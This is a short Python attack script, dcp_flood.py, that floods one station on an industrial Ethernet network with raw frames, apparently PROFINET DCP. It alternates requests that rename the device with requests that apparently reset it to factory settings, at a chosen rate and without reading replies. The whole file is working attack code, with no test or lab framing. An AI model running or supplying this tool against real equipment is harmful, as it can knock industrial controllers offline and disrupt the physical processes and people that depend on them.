"""Sends DCP Set and Reset to one station, without pause and without reading an answer.

dcp_flood.py INTERFACE MAC SECONDS PER_SECOND
"""

import socket
import struct
import sys
import time

interface, station, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
source = bytes.fromhex("020000000bad")
target = bytes.fromhex(station.replace(":", ""))


def request(xid, option, qualifier, value=b""):
    block = bytes(option) + struct.pack(">HH", 2 + len(value), qualifier) + value + b"\0" * (len(value) % 2)
    header = struct.pack(">HBBIHH", 0xFEFD, 4, 0, xid, 0, len(block))
    return (target + source + b"\x88\x92" + header + block).ljust(60, b"\0")


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
start = time.monotonic()
sent = 0
while time.monotonic() - start < seconds:
    while sent < (time.monotonic() - start) * rate:
        name = request(sent, (2, 2), 1, b"flood-%d" % sent)
        reset = request(sent, (5, 6), 4)
        wire.send(reset if sent % 2 else name)
        sent += 1
    time.sleep(0.001)
print(sent, "sent")
